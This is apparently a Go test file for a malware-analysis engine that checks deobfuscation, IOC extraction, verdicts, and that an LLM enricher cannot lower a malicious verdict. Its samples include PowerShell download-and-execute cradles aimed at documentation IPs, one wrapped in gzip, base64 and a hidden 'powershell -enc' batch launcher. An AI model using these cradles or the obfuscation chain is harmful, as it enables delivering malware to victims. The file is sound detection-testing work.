package analysis_test

import (
	"bytes"
	"compress/gzip"
	"context"
	"encoding/base64"
	"encoding/binary"
	"encoding/json"
	"errors"
	"strings"
	"testing"
	"time"
	"unicode/utf16"

	"github.com/santhosh-tekuri/jsonschema/v6"

	"github.com/automaldesc/automaldesc/analysis"
	"github.com/automaldesc/automaldesc/analysis/indicators"
	"github.com/automaldesc/automaldesc/analysis/ioc"
	"github.com/automaldesc/automaldesc/analysis/lang"
	"github.com/automaldesc/automaldesc/analysis/verdict"
	"github.com/automaldesc/automaldesc/rules"
)

func newEngine(t testing.TB, mod func(*analysis.Options)) *analysis.Engine {
	t.Helper()
	live, err := rules.NewLive()
	if err != nil {
		t.Fatalf("rules: %v", err)
	}
	opt := analysis.Options{
		Version: "test",
		Limits: analysis.Limits{
			MaxFileSize: 1 << 20, SampleTimeout: 10 * time.Second,
			DecodeDepth: 8, DecodeRatio: 16, DecodeBytes: 64 << 20, MaxLayers: 64,
		},
		Rules:   live,
		Catalog: indicators.Default(),
		TopK:    8,
	}
	if mod != nil {
		mod(&opt)
	}
	e, err := analysis.New(opt)
	if err != nil {
		t.Fatal(err)
	}
	return e
}

var compiledSchema = func() func(t testing.TB) *jsonschema.Schema {
	return func(t testing.TB) *jsonschema.Schema {
		t.Helper()
		doc, err := jsonschema.UnmarshalJSON(bytes.NewReader(analysis.ReportSchema))
		if err != nil {
			t.Fatalf("schema: %v", err)
		}
		c := jsonschema.NewCompiler()
		c.AssertFormat()
		if err := c.AddResource("report.schema.json", doc); err != nil {
			t.Fatal(err)
		}
		s, err := c.Compile("report.schema.json")
		if err != nil {
			t.Fatalf("compile schema: %v", err)
		}
		return s
	}
}()

// validate checks a report against the published JSON Schema.
func validate(t testing.TB, s *jsonschema.Schema, r *analysis.Report) {
	t.Helper()
	b, err := json.Marshal(r)
	if err != nil {
		t.Fatal(err)
	}
	v, err := jsonschema.UnmarshalJSON(bytes.NewReader(b))
	if err != nil {
		t.Fatal(err)
	}
	if err := s.Validate(v); err != nil {
		t.Errorf("report does not match the schema: %v\n%s", err, b)
	}
}

func utf16le(s string) []byte {
	u := utf16.Encode([]rune(s))
	b := make([]byte, 2*len(u))
	for i, c := range u {
		binary.LittleEndian.PutUint16(b[2*i:], c)
	}
	return b
}

func gzipB64(t testing.TB, s string) string {
	var buf bytes.Buffer
	zw := gzip.NewWriter(&buf)
	if _, err := zw.Write([]byte(s)); err != nil {
		t.Fatal(err)
	}
	if err := zw.Close(); err != nil {
		t.Fatal(err)
	}
	return base64.StdEncoding.EncodeToString(buf.Bytes())
}

// nestedChain builds the chain the deobfuscation issue names: a batch file
// starts PowerShell -enc, which inflates a gzip+base64 blob, which holds an
// IEX download cradle.
func nestedChain(t testing.TB) []byte {
	cradle := "IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.10/stage2.ps1')"
	inflate := "$d = [Convert]::FromBase64String('" + gzipB64(t, cradle) + "')\n" +
		"$s = New-Object IO.Compression.GzipStream([IO.MemoryStream]$d, [IO.Compression.CompressionMode]::Decompress)\n" +
		"$r = (New-Object IO.StreamReader($s)).ReadToEnd()\nIEX $r\n"
	enc := base64.StdEncoding.EncodeToString(utf16le(inflate))
	return []byte("@echo off\r\npowershell.exe -NoProfile -WindowStyle Hidden -enc " + enc + "\r\nexit /b 0\r\n")
}

func TestAnalyzeNestedChain(t *testing.T) {
	e := newEngine(t, nil)
	r, err := e.Analyze(context.Background(), analysis.Sample{Data: nestedChain(t), Name: "update.bat", Source: "test"})
	if err != nil {
		t.Fatalf("Analyze: %v", err)
	}
	if r.Status != analysis.StatusOK {
		t.Fatalf("status: got %s (%s), want ok", r.Status, r.Reason)
	}
	if r.Language.Language != lang.Batch {
		t.Errorf("language: got %s, want batch", r.Language.Language)
	}
	if len(r.Layers) < 3 {
		t.Fatalf("layers: got %d, want at least 3 (original, powershell, inflated)", len(r.Layers))
	}
	// Every layer's parent precedes it, and the deepest layer holds the cradle.
	var cradleLayer = -1
	for _, l := range r.Layers[1:] {
		if l.Parent < 0 || l.Parent >= l.Index {
			t.Errorf("layer %d: parent %d does not precede it", l.Index, l.Parent)
		}
		if strings.Contains(l.Text, "DownloadString") && !strings.Contains(l.Text, "FromBase64String") {
			cradleLayer = l.Index
		}
	}
	if cradleLayer < 2 {
		t.Fatalf("no decoded layer below the PowerShell layer holds the cradle; layers: %+v", r.Layers)
	}
	var url *ioc.IOC
	for i := range r.IOCs {
		if r.IOCs[i].Type == ioc.URL && r.IOCs[i].Value == "http://192.0.2.10/stage2.ps1" {
			url = &r.IOCs[i]
		}
	}
	if url == nil {
		t.Fatalf("the cradle's URL is not an IOC; iocs: %+v", r.IOCs)
	}
	if url.Layer == 0 {
		t.Errorf("URL IOC layer: got 0, want the decoded layer it was found in")
	}
	if !strings.Contains(url.Defanged, "hxxp") {
		t.Errorf("defanged URL: got %q, want hxxp", url.Defanged)
	}
	if r.Verdict.Label != verdict.Malicious && r.Verdict.Label != verdict.Suspicious {
		t.Errorf("verdict: got %s, want malicious or suspicious", r.Verdict.Label)
	}
	if len(r.Techniques) == 0 {
		t.Error("no ATT&CK techniques")
	}
	validate(t, compiledSchema(t), r)
}

func TestAnalyzeBadInput(t *testing.T) {
	e := newEngine(t, nil)
	big := bytes.Repeat([]byte("Write-Host 'x'\n"), (1<<20)/15+10)
	tests := []struct {
		name       string
		sample     analysis.Sample
		wantStatus analysis.Status
		wantReason string
	}{
		{"empty", analysis.Sample{Data: []byte{}, Name: "e.ps1"}, analysis.StatusSkipped, "empty"},
		{"elf binary", analysis.Sample{Data: append([]byte("\x7fELF\x02\x01\x01"), make([]byte, 200)...), Name: "x"}, analysis.StatusSkipped, "binary"},
		{"oversized", analysis.Sample{Data: big, Name: "big.ps1"}, analysis.StatusSkipped, "max_file_size"},
		{"invalid utf-8 is latin-1 text", analysis.Sample{Data: []byte("echo caf\xe9 > /tmp/x\n"), Name: "a.sh"}, analysis.StatusOK, ""},
		{"hostile name", analysis.Sample{Data: []byte("Write-Host hi\n"), Name: "a\nb\xff\u202e.ps1"}, analysis.StatusOK, ""},
	}
	schema := compiledSchema(t)
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			r, err := e.Analyze(context.Background(), tc.sample)
			if err != nil {
				t.Fatalf("Analyze: got error %v, want a report", err)
			}
			if r.Status != tc.wantStatus {
				t.Errorf("status: got %s (%s), want %s", r.Status, r.Reason, tc.wantStatus)
			}
			if !strings.Contains(strings.ToLower(r.Reason), tc.wantReason) {
				t.Errorf("reason: got %q, want it to mention %q", r.Reason, tc.wantReason)
			}
			if strings.ContainsAny(r.Sample.Name, "\n\u202e") {
				t.Errorf("name not escaped: %q", r.Sample.Name)
			}
			validate(t, schema, r)
		})
	}
}

func TestAnalyzeUTF16(t *testing.T) {
	e := newEngine(t, nil)
	script := "$wc = New-Object System.Net.WebClient\r\n$wc.DownloadFile('http://198.51.100.7/a.exe', \"$env:TEMP\\a.exe\")\r\nStart-Process \"$env:TEMP\\a.exe\"\r\n"
	for _, tc := range []struct {
		name string
		data []byte
	}{
		{"bom", append([]byte{0xff, 0xfe}, utf16le(script)...)},
		{"no bom", utf16le(script)},
	} {
		t.Run(tc.name, func(t *testing.T) {
			r, err := e.Analyze(context.Background(), analysis.Sample{Data: tc.data, Name: "x"})
			if err != nil || r.Status != analysis.StatusOK {
				t.Fatalf("got %v / %s %s, want ok", err, r.Status, r.Reason)
			}
			if r.Language.Language != lang.PowerShell {
				t.Errorf("language: got %s, want powershell", r.Language.Language)
			}
			if !strings.HasPrefix(string(r.Encoding), "utf-16le") {
				t.Errorf("encoding: got %s, want utf-16le", r.Encoding)
			}
			found := false
			for _, i := range r.IOCs {
				found = found || i.Value == "http://198.51.100.7/a.exe"
			}
			if !found {
				t.Errorf("URL not extracted from UTF-16 text: %+v", r.IOCs)
			}
		})
	}
}

type panicky struct{}

func (panicky) Explain(context.Context, *analysis.Report) (analysis.Explanation, error) {
	panic("explainer bug")
}

func TestPanicFence(t *testing.T) {
	e := newEngine(t, func(o *analysis.Options) { o.Explainer = panicky{} })
	r, err := e.Analyze(context.Background(), analysis.Sample{Data: []byte("Write-Host hi\n"), Name: "a.ps1"})
	if !errors.Is(err, analysis.ErrInternal) {
		t.Fatalf("error: got %v, want ErrInternal", err)
	}
	if r == nil || r.Status != analysis.StatusError || !strings.Contains(r.Reason, "explainer bug") {
		t.Fatalf("report: got %+v, want status error naming the panic", r)
	}
}

type slowExplainer struct{}

func (slowExplainer) Explain(ctx context.Context, _ *analysis.Report) (analysis.Explanation, error) {
	<-ctx.Done()
	return analysis.Explanation{}, ctx.Err()
}

func TestDeadline(t *testing.T) {
	e := newEngine(t, func(o *analysis.Options) {
		o.Limits.SampleTimeout = 50 * time.Millisecond
		o.Explainer = slowExplainer{}
	})
	start := time.Now()
	r, err := e.Analyze(context.Background(), analysis.Sample{Data: []byte("IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.1/x')\n"), Name: "a.ps1"})
	if !errors.Is(err, analysis.ErrDeadline) {
		t.Fatalf("error: got %v, want ErrDeadline", err)
	}
	if r.Status != analysis.StatusError {
		t.Errorf("status: got %s, want error", r.Status)
	}
	if len(r.Indicators) == 0 {
		t.Error("partial findings were dropped")
	}
	if d := time.Since(start); d > 5*time.Second {
		t.Errorf("took %s, want the deadline honoured", d)
	}
}

func TestRecordID(t *testing.T) {
	a := analysis.RecordID("ab", "cli", "Sig.A", "/x")
	if a != analysis.RecordID("ab", "cli", "Sig.A", "/elsewhere") {
		t.Error("same sha256/source/signature: ids differ")
	}
	if a == analysis.RecordID("ab", "cli", "Sig.B", "/x") {
		t.Error("different signature: same id")
	}
	if analysis.RecordID("", "cli", "", "/a") == analysis.RecordID("", "cli", "", "/b") {
		t.Error("unreadable files at different paths: same id")
	}
}

func TestConcurrentAnalyze(t *testing.T) {
	e := newEngine(t, nil)
	data := nestedChain(t)
	want, _ := e.Analyze(context.Background(), analysis.Sample{Data: data, Name: "x.bat"})
	errs := make(chan error, 16)
	for range 16 {
		go func() {
			r, err := e.Analyze(context.Background(), analysis.Sample{Data: data, Name: "x.bat"})
			switch {
			case err != nil:
				errs <- err
			case len(r.Layers) != len(want.Layers) || len(r.YARA) != len(want.YARA) || len(r.Indicators) != len(want.Indicators):
				errs <- errors.New("concurrent result differs from the sequential one")
			default:
				errs <- nil
			}
		}()
	}
	for range 16 {
		if err := <-errs; err != nil {
			t.Error(err)
		}
	}
}

func BenchmarkAnalyze(b *testing.B) {
	e := newEngine(b, nil)
	data := []byte(strings.Repeat("$files = Get-ChildItem -Path $env:USERPROFILE -Recurse -Include *.log\nforeach ($f in $files) { Write-Host $f.FullName }\n", 40))
	b.SetBytes(int64(len(data)))
	b.ReportAllocs()
	for b.Loop() {
		if _, err := e.Analyze(context.Background(), analysis.Sample{Data: data, Name: "x.ps1"}); err != nil {
			b.Fatal(err)
		}
	}
}

// lowering is an Enricher that tries to talk the engine out of its verdict.
type lowering struct{}

func (lowering) Explain(context.Context, *analysis.Report) (analysis.Explanation, error) {
	return analysis.Explanation{}, errors.New("not used")
}

func (lowering) EnrichReport(_ context.Context, r *analysis.Report) error {
	r.Verdict.Label, r.Verdict.Source = verdict.Benign, "llm"
	r.Explanation = analysis.Explanation{Summary: "Harmless.", Source: "llm:test"}
	return nil
}

type raising struct{ lowering }

func (raising) EnrichReport(_ context.Context, r *analysis.Report) error {
	r.Verdict.Label, r.Verdict.Source = verdict.Suspicious, "rules+llm"
	r.Explanation = analysis.Explanation{Summary: "Looks like a stager.", Source: "llm:test"}
	return nil
}

func TestEnricherMayRaiseNeverLower(t *testing.T) {
	cradle := []byte("IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.1/x')\n")
	r, err := newEngine(t, func(o *analysis.Options) { o.Explainer = lowering{} }).
		Analyze(context.Background(), analysis.Sample{Data: cradle, Name: "a.ps1"})
	if err != nil {
		t.Fatal(err)
	}
	if r.Verdict.Label != verdict.Malicious {
		t.Errorf("lowering enricher: got %s, want the malicious verdict kept", r.Verdict.Label)
	}
	benign := []byte("Get-ChildItem C:\\Logs | Remove-Item\n")
	r, err = newEngine(t, func(o *analysis.Options) { o.Explainer = raising{} }).
		Analyze(context.Background(), analysis.Sample{Data: benign, Name: "b.ps1"})
	if err != nil {
		t.Fatal(err)
	}
	if r.Verdict.Label != verdict.Suspicious || r.Explanation.Source != "llm:test" {
		t.Errorf("raising enricher: got %s / %s, want suspicious / llm:test", r.Verdict.Label, r.Explanation.Source)
	}
}

func TestSetModelWhileAnalysing(t *testing.T) {
	e := newEngine(t, nil)
	if got := e.Info().ModelVersion; got != "rules" {
		t.Fatalf("model version: got %s, want rules", got)
	}
	m := trainTiny(t)
	done := make(chan struct{})
	go func() {
		defer close(done)
		for range 50 {
			if _, err := e.Analyze(context.Background(), analysis.Sample{Data: []byte("Write-Host hi\n"), Name: "a.ps1"}); err != nil {
				t.Error(err)
				return
			}
		}
	}()
	e.SetModel(m)
	<-done
	r, err := e.Analyze(context.Background(), analysis.Sample{Data: []byte("Write-Host hi\n"), Name: "a.ps1"})
	if err != nil {
		t.Fatal(err)
	}
	if r.Engine.ModelVersion != m.Version() || r.Verdict.Source == "rules" {
		t.Errorf("after SetModel: got model %s, verdict source %s; want %s from the model", r.Engine.ModelVersion, r.Verdict.Source, m.Version())
	}
	e.SetModel(nil)
	if got := e.Info().ModelVersion; got != "rules" {
		t.Errorf("after SetModel(nil): got %s, want rules", got)
	}
}

// trainTiny trains a model on a handful of engine-made examples.
func trainTiny(t *testing.T) *verdict.Model {
	t.Helper()
	e := newEngine(t, nil)
	var ex []verdict.Example
	for i, s := range []string{
		"IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.1/a')\n",
		"powershell -nop -w hidden -enc SQBFAFgA\n",
		"Invoke-Expression (iwr http://198.51.100.2/x).Content\n",
		"Get-ChildItem C:\\Logs | Remove-Item\n",
		"Write-Host 'backup done'\n",
		"Copy-Item D:\\data E:\\backup -Recurse\n",
	} {
		_, x, err := e.Examine(context.Background(), analysis.Sample{Data: []byte(s), Name: "x.ps1"})
		if err != nil {
			t.Fatal(err)
		}
		ex = append(ex, verdict.Example{Features: x, Malicious: i < 3, Language: lang.PowerShell})
	}
	opt := verdict.DefaultTrainOptions()
	opt.MinFeatureCount = 1
	m, err := verdict.Train(ex, opt)
	if err != nil {
		t.Fatal(err)
	}
	return m
}
